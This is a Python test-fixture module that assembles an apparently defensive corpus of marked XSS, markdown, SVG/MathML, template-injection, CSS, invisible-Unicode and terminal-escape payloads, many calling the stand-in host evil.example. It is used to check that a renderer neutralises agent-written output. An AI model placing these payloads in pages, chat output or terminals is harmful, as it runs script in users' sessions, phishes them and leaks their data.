"""The corpus of T25: what a hostile agent may write to get at whoever looks, in shapes times means.

If one ran, it would show a dialog, make the global `owned`, or ask the host evil.example; a browser that is listened to
notices all three. `CORPUS` has each payload once, behind a marker by which a test knows that it was really shown.
"""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "owned=alert(1)"
"""What a payload wants to run."""

ELEMENTS = (
    "<script>{run}</script>",
    "<SCRIPT >{run}</SCRIPT\t>",
    "<script src={evil}/a.js></script>",
    "<script type=module>import '{evil}/m.js'</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={evil}></iframe>",
    "<object data={evil}/a.swf></object>",
    "<object data=javascript:{run}></object>",
    "<embed src={evil}/a.svg>",
    "<base href={evil}/>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href={evil}/a.css>",
    "<link rel=prefetch href={evil}/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url({evil}/a.css);</style>",
    "<style>body{{background:url({evil}/b)}}</style>",
    "<form action={evil}><button>Log in again</button></form>",
    "<form id=owned><input name=attributes></form>",
    "<a id=owned name=owned href={evil}>x</a><a id=owned name=x>y</a>",
    "<img id=owned name=owned>",
    "<input autofocus name=owned>",
    "<template><script>{run}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<dialog open>Your session ended. <a href={evil}>Log in</a></dialog>",
    "<portal src={evil}></portal>",
    "<frameset onload={run}><frame src={evil}></frameset>",
    "<applet code={evil}/A.class></applet>",
    "<x-owned onclick={run} is=button>press</x-owned>",
    "<marquee onstart={run}>m</marquee>",
    "<button formaction=javascript:{run}>b</button>",
    "<isindex action=javascript:{run} type=image>",
    "<table background={evil}/t><td background={evil}/u>",
    "<picture><source srcset={evil}/s><img src={evil}/i></picture>",
    "<img srcset='{evil}/1x 1x, {evil}/2x 2x'>",
    "<video poster={evil}/p src={evil}/v autoplay></video>",
    "<audio src={evil}/a autoplay></audio>",
    "<track src={evil}/t default>",
)
HANDLERS = (
    "img src=x onerror",
    "img src=x onerror\t",
    "IMG SRC=x OnErRoR",
    "img/src=x/onerror",
    "svg onload",
    "svg/onload",
    "body onload",
    "body onpageshow",
    "body onhashchange",
    "body onresize",
    "video src=x onerror",
    "audio src=x onerror",
    "video onloadstart",
    "details open ontoggle",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "div tabindex=0 autofocus onfocusin",
    "div onpointerover",
    "div onmousemove style=position:fixed;inset:0",
    "div onwheel",
    "div onanimationstart style=animation-name:spin",
    "div ontransitionend style=transition:1ms",
    "div onbeforematch hidden=until-found",
    "div oncontentvisibilityautostatechange style=content-visibility:auto",
    "div popover id=owned onbeforetoggle",
    "object data=x onerror",
    "embed src=x onload",
    "iframe onload",
    "link rel=stylesheet href=x onerror",
    "style onload",
    "script src=x onerror",
    "form oninput",
    "xss onscrollsnapchange",
)
VECTORS = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href={evil}/a.js /></svg>",
    "<svg><script xlink:href='data:text/javascript,{run}'/></svg>",
    "<svg><a href=javascript:{run}><text y=20>press</text></a></svg>",
    "<svg><a xlink:href=javascript:{run}><rect width=99 height=99 /></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run} onbegin={run}>",
    "<svg><image href={evil}/i width=9 height=9 /></svg>",
    "<svg><use href='{evil}/u.svg#x'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>",
    "<svg><style>*{{fill:url({evil}/f#x)}}</style></svg>",
    "<svg><feImage href={evil}/f /></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{run}</handler></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='{evil}/x.xsl'?><svg/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{evil}/e'>]><x>&e;</x>",
    "<math href=javascript:{run}><mi>press</mi></math>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>m</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<textarea><a title='</textarea><img src=x onerror={run}>'>",
    "<title><a title='</title><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<noembed><p title='</noembed><img src=x onerror={run}>'>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<a href='x`x`><img src=x onerror={run}>'>",
    "<<img src=x onerror={run}>>",
    "<img src='x' title='`><img src=x onerror={run}>",
    '<img """><script>{run}</script>">',
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<!--><img src=x onerror={run}>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "]]><img src=x onerror={run}>",
    "--><img src=x onerror={run}>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "</style><img src=x onerror={run}>",
    "</pre></code></div></main></body><img src=x onerror={run}>",
    '" autofocus onfocus={run} x="',
    "' onmouseover='{run}",
    "<img src=x onerror=&#97;lert(1)>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
)
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "&#106;avascript:{run}",
    "javascript://evil.example/%0A{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{evil}/x",
    "filesystem:{evil}/x",
    "view-source:{evil}",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example/x",
    "/login#stolen",
    "/api/v1/logout",
    "https://hive@evil.example",
    "https://evil.example\\@hive.example",
    "https://xn--80ak6aa92e.example",
    "feed:javascript:{run}",
    "intent://evil.example#Intent;scheme=https;end",
)
MARKDOWN = (
    "[press]({address})",
    "![look]({address})",
    "<{address}>",
)
"""Each address in one of these, turn by turn."""
MORE_MARKDOWN = (
    "![pixel]({evil}/pixel.png?secret=1)",
    "![pixel][r]\n\n[r]: {evil}/reference.png",
    "[press][j]\n\n[j]: javascript:{run}",
    "[x](https://good.example \"' onmouseover={run} '\")",
    "[![nested]({evil}/n.png)](javascript:{run})",
    "[https://bank.example]({evil}/login)",
    "[a](<javascript:{run}>)",
    "{evil}/?q=<script>{run}</script>",
    "www.evil.example",
    "mailto:a@evil.example?body=<script>{run}</script>",
    "[^note]\n\n[^note]: <img src=x onerror={run}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={run}> | ![p]({evil}/t.png) |",
    "- [ ] <input autofocus onfocus={run}>\n- [x] done",
    "# <img src=x onerror={run}>\n\n> <svg onload={run}>",
    "```html\n<script>{run}</script>\n```",
    '```js"><img src=x onerror={run}>\nlet a\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror={run}>"] --> B; click A "javascript:{run}"\n```',
    '```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\nflowchart LR; a-->b; click a call {run}\n```',
    "~~~svg\n<svg onload={run}/>\n~~~",
    "`<script>{run}</script>` and ``` `` ```",
    "$$\\href{{javascript:{run}}}{{x}} \\includegraphics{{{evil}/l.png}}$$",
    "<details><summary>s</summary>\n\n**<img src=x onerror={run}>**\n\n</details>",
    "---\ntitle: <script>{run}</script>\n---",
    ":::html\n<script>{run}</script>\n:::",
    "{{% include {evil} %}} {{{{constructor.constructor('{run}')()}}}}",
)
TEMPLATES = (
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{{{{run}}}}}",
    "[[{run}]]",
    "__proto__",
    "constructor",
    "toString",
    '{{"__proto__": {{"owned": 1}}}}',
    '{{"dangerouslySetInnerHTML": {{"__html": "<img src=x onerror={run}>"}}}}',
    "'); {run}; ('",
    '=HYPERLINK("{evil}","x")',
    "null",
    "-1",
)
STYLES = (
    "<p style=background:url({evil}/c)>css</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>everything</p>",
    "<p class='fixed inset-0 bg-danger z-50'>a class of ours</p>",
    "<p style=width:expression({run})>old</p>",
    "<p style=behavior:url({evil}/x.htc)>older</p>",
    "}}*{{background:url({evil}/d)}}",
    "@font-face{{font-family:x;src:url({evil}/f)}}",
)
UNSEEN = (
    "\u202egpj.exe\u202c",
    "\u2066\u2067isolated\u2069\u2069",
    "pay\u200bpal \u200c\u200d\u2060\ufeff",
    "\u00adsoft\u00adhyphens\u180e",
    "\U000e0041\U000e0042tags\U000e007f",
    "\u2028line\u2029paragraph",
    "a" + "\u0300" * 200,
    "\ufdfd\U0001242b wide",
    "\ue000 private \U0010fffe",
    "⟦U+202E⟧ forged mark",
    "\u0430\u0440\u0440le \u2044 look-alikes",
)
TERMINAL = (
    "\x1b]0;owned\x07 title",
    "\x1b]52;c;b3duZWQ=\x07 clipboard",
    "\x1b]8;;javascript:alert(1)\x1b\\press\x1b]8;;\x1b\\",
    "\x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
    "\x1b]1337;File=inline=1:AAAA\x07 image",
    "\x1b[2J\x1b[H\x1b[3J cleared",
    "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m",
    '\x1bP$q"p\x1b\\ \x1b[c \x1b[6n asks',
    "\x9b31m \x90 \x9d0;owned\x9c eight bits",
    "over\rwritten \b\b\b \x7f \x07",
    "\x1b[?1049h\x1b[?1000h another screen",
    "\x1b[31m<img src=x onerror=owned=alert(1)>\x1b[0m in colour",
    "\x1b[38;2;1;2;3;url(https://evil.example)m no colour",
    '\x1b[31"onclick=owned=1 class="x\x1b[m half a colour',
    "\x1b[31;41m\u202ered on red\x1b[0m \x1b[30;40mblack\x1b[0m",
    "\x1b[38;5;99999999999999999999m \x1b[-1m \x1b[__proto__m \x1b[" + "1;" * 400 + "m many",
    "over\r\x1b[Kwritten \x1b[1K \x1b[2K erased",
)
LONG = (
    "<img src=x onerror={run} " + "a=b " * 400 + ">",
    "<" * 1500,
    "[" * 1500,
    "![](" * 300,
    "<div>" * 400 + "<img src=x onerror={run}>",
    "> " * 300 + "deep",
    "A" * 4000,
    "*_" * 700,
    "&#x0;" * 200,
)


def _payloads() -> list[str]:
    """Every payload, each once."""
    filled = ("run", RUN), ("evil", EVIL)
    shapes = [*ELEMENTS, *(f"<{handler}={{run}}>" for handler in HANDLERS), *VECTORS, *MUTATIONS]
    shapes += [MARKDOWN[n % len(MARKDOWN)].replace("{address}", one) for n, one in enumerate(ADDRESSES)]
    shapes += [*MORE_MARKDOWN, *TEMPLATES, *STYLES, *LONG]
    found = [shape.format(**dict(filled)) for shape in shapes]
    return list(dict.fromkeys([*found, *UNSEEN, *TERMINAL]))


PAYLOADS = _payloads()


def marker(number: int) -> str:
    """The word that stands before a payload."""
    return f"q{number:03}q"


CORPUS = [f"{marker(number)} {payload}" for number, payload in enumerate(PAYLOADS)]


def batches(size: int, between: str = "\n\n") -> list[str]:
    """The corpus in texts of `size` payloads."""
    return [between.join(CORPUS[at : at + size]) for at in range(0, len(CORPUS), size)]
